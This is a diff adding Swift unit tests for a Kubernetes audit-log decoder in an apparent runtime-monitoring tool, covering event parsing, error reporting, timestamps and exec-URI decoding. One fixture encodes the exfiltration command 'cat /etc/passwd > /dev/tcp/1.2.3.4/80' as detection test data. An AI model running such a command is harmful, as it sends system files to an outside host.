@@ -1,0 +1,79 @@
+// SPDX-License-Identifier: Apache-2.0
+// The audit decoder: EventList, single Event and JSON-lines input; a bad item is reported with its
+// position and reason and the rest is kept; timestamps, exec URIs and trace round trip.
+
+import Foundation
+@testable import RuntimeWatchCore
+import XCTest
+
+final class K8sAuditDecoderTests: XCTestCase {
+    static func eventJSON(_ id: String, stage: String = "ResponseComplete", extra: String = "") -> String {
+        #"{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"\#(id)","stage":"\#(stage)","requestURI":"/api/v1/secrets","verb":"list","user":{"username":"u"},"objectRef":{"resource":"secrets","apiVersion":"v1"},"stageTimestamp":"2026-11-20T09:00:00.000001Z","someFutureField":{"x":[1,2]}\#(extra)}"#
+    }
+
+    func testEventListKeepsGoodItemsAndReportsTheBadOneByPosition() throws {
+        let body = #"{"kind":"EventList","apiVersion":"audit.k8s.io/v1","metadata":{},"items":["# + Self.eventJSON("a") + ","
+            + #"{"kind":"Event","auditID":"b","stage":"ResponseComplete","verb":"get","user":{}}"# + ","
+            + Self.eventJSON("c") + "]}"
+        let result = try AuditEventDecoder.decodeDocument(Array(body.utf8))
+        XCTAssertEqual(result.events.map(\.auditID), ["a", "c"])
+        XCTAssertEqual(result.issues.count, 1)
+        XCTAssertEqual(result.issues.first?.position, "items[1]")
+        XCTAssertTrue(result.issues.first?.reason.contains("requestURI") ?? false, result.issues.first?.reason ?? "")
+    }
+
+    func testSingleEventAndNonJSON() throws {
+        XCTAssertEqual(try AuditEventDecoder.decodeDocument(Array(Self.eventJSON("x").utf8)).events.map(\.auditID), ["x"])
+        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array("this is not json".utf8))) { error in
+            let issue = error as? AuditDecodeIssue
+            XCTAssertEqual(issue?.position, "body")
+            XCTAssertTrue(issue?.reason.hasPrefix("not valid JSON") ?? false, "\(String(describing: issue))")
+        }
+        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array("[1,2]".utf8)))
+        XCTAssertThrowsError(try AuditEventDecoder.decodeDocument(Array(#"{"kind":"PodList","items":null}"#.utf8)))
+    }
+
+    func testJSONLinesReportLineNumbersAndSkipBlankLines() {
+        let text = Self.eventJSON("1") + "\n\n{\"auditID\": truncated\n" + Self.eventJSON("2") + "\n"
+        let result = AuditEventDecoder.decodeLines(Array(text.utf8))
+        XCTAssertEqual(result.events.map(\.auditID), ["1", "2"])
+        XCTAssertEqual(result.issues.map(\.position), ["line 3"])
+        XCTAssertTrue(result.issues[0].reason.hasPrefix("not valid JSON"), result.issues[0].reason)
+    }
+
+    func testRecordNeedsATimestamp() throws {
+        var e = try AuditEventDecoder.decodeDocument(Array(Self.eventJSON("t").utf8)).events[0]
+        XCTAssertEqual(try AuditEventDecoder.record(e, position: "p").timestamp, 1_795_165_200_000_001_000)
+        e.stageTimestamp = "yesterday"
+        e.requestReceivedTimestamp = nil
+        XCTAssertThrowsError(try AuditEventDecoder.record(e, position: "line 9")) { error in
+            XCTAssertEqual((error as? AuditDecodeIssue)?.position, "line 9")
+        }
+    }
+
+    func testTimestamps() {
+        XCTAssertEqual(AuditTimestamp.nanoseconds("1970-01-01T00:00:00Z"), 0)
+        XCTAssertEqual(AuditTimestamp.nanoseconds("2026-11-20T09:00:00.123456Z"), 1_795_165_200_123_456_000)
+        XCTAssertEqual(AuditTimestamp.nanoseconds("2026-11-20T10:00:00.5+01:00"), 1_795_165_200_500_000_000)
+        XCTAssertEqual(AuditTimestamp.nanoseconds("2024-02-29T00:00:00.000000001Z"), 1_709_164_800_000_000_001)
+        for bad in ["", "2026-11-20", "2026-13-01T00:00:00Z", "2026-11-20T09:00:00", "2026-11-20T09:00:00.Z", "1969-12-31T23:59:59Z"] {
+            XCTAssertNil(AuditTimestamp.nanoseconds(bad), bad)
+        }
+    }
+
+    func testExecCommandFromURI() {
+        let uri = "/api/v1/namespaces/prod/pods/web-0/exec?command=sh&command=-c&command=cat%20%2Fetc%2Fpasswd%20%3E%20%2Fdev%2Ftcp%2F1.2.3.4%2F80&container=web&stdin=true"
+        XCTAssertEqual(ExecCommandDecoder.command(fromURI: uri), ["sh", "-c", "cat /etc/passwd > /dev/tcp/1.2.3.4/80"])
+        XCTAssertEqual(ExecCommandDecoder.container(fromURI: uri), "web")
+        XCTAssertEqual(ExecCommandDecoder.command(fromURI: "/api/v1/namespaces/a/pods/b/attach?container=c"), [])
+        XCTAssertEqual(ExecCommandDecoder.percentDecode("100%zz%4"), "100%zz%4", "bad escapes kept literally")
+        XCTAssertEqual(ExecCommandDecoder.percentDecode("%E9%9B%AA"), "雪")
+    }
+
+    func testAuditRecordRoundTripsThroughTheTraceFormat() throws {
+        let record = EventRecord(timestamp: 1_795_165_200_123_456_000, event: .k8sAudit(EventSamples.fullAudit))
+        let line = try record.jsonLine()
+        XCTAssertTrue(line.hasPrefix(#"{"ts":1795165200123456000,"type":"k8s_audit","#), line)
+        XCTAssertEqual(try JSONDecoder().decode(EventRecord.self, from: Data(line.utf8)), record)
+    }
+}
